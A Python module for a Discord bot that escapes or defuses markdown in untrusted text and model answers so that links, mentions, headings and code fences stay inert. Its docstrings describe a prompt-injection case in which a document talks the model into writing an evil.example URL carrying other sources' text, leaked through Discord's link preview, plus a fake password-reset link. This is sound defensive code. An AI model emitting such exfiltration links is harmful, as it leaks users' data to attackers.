"""Untrusted text -> Discord markdown that shows the text and does nothing else.

OCR and page text, file names, snippets, questions and model answers that quote them may
carry markdown: a screenshot reading ``[Reset password](https://evil.example)`` must not
become a link posted by the bot, nor ``@everyone`` / ``<@id>`` a mention, ``# title`` a
heading or a code fence swallow the rest of the reply.

- :func:`escape`: the text, literally (every markdown character backslash-escaped).
- :func:`neutralise`: for model answers, which legitimately use bold, italics and lists:
  links (bare URLs included), mentions, headings, code and spoilers are defused, emphasis
  is kept.
- :func:`code`: a name shown as inline code (a code span renders its content literally;
  only a backtick could end it early).
"""

from __future__ import annotations

import re

# Discord accepts a backslash before any ASCII punctuation; these are the ones that act.
# ":" stops auto-linking (https\://...) and emoji; "@" and "<" stop mentions.
_ALL = re.compile(r"([\\*_~|`>#\-\[\]()<:@])")
# For answers: autolinks and mentions (<...>, @), headings (#, -#), code, spoilers. Masked
# links need "](" and are broken there, so citations like [1] stay as written.
_ACTIVE = re.compile(r"([\\`|#<@])")
_MASKED = re.compile(r"\]\(")
_BACKTICK = "\u02cb"  # modifier letter grave accent: looks like a backtick, is not one


def escape(text: str) -> str:
    """``text`` shown literally."""
    return _ALL.sub(r"\\\1", text)


def neutralise(text: str) -> str:
    """``text`` with links, mentions, headings, code and spoilers defused; emphasis kept.

    Bare URLs too: Discord fetches a link in a message for its preview, so a document that
    talks the model into writing ``https://evil.example/?d=<other sources' text>`` would send
    that text to evil.example. The address stays readable, it is just not a link."""
    return _MASKED.sub("]\\(", _ACTIVE.sub(r"\\\1", text)).replace("://", "\\://")


def code(name: str, limit: int = 200) -> str:
    """``name`` as one inline code span on one line (at most ``limit`` characters inside)."""
    flat = " ".join(name.replace("`", _BACKTICK).split())
    if len(flat) > limit:
        flat = flat[: limit - 1] + "…"
    return f"`{flat or ' '}`"


def shorten(text: str, limit: int) -> str:
    """Cut ``text`` to ``limit`` characters at a word boundary, marking the cut with '…'."""
    text = text.strip()
    if len(text) <= limit:
        return text
    cut = text[: limit - 1]
    space = cut.rfind(" ")
    if space > limit // 2:
        cut = cut[:space]
    return cut.rstrip() + "…"


def escape_within(text: str, limit: int) -> str:
    """:func:`escape` of ``text`` cut (at a word boundary, marked with '…') so the escaped
    result fits in ``limit`` characters."""
    size = limit
    while True:
        out = escape(shorten(text, size))
        if len(out) <= limit or size <= 1:
            return out[:limit]
        size = max(1, size - (len(out) - limit))
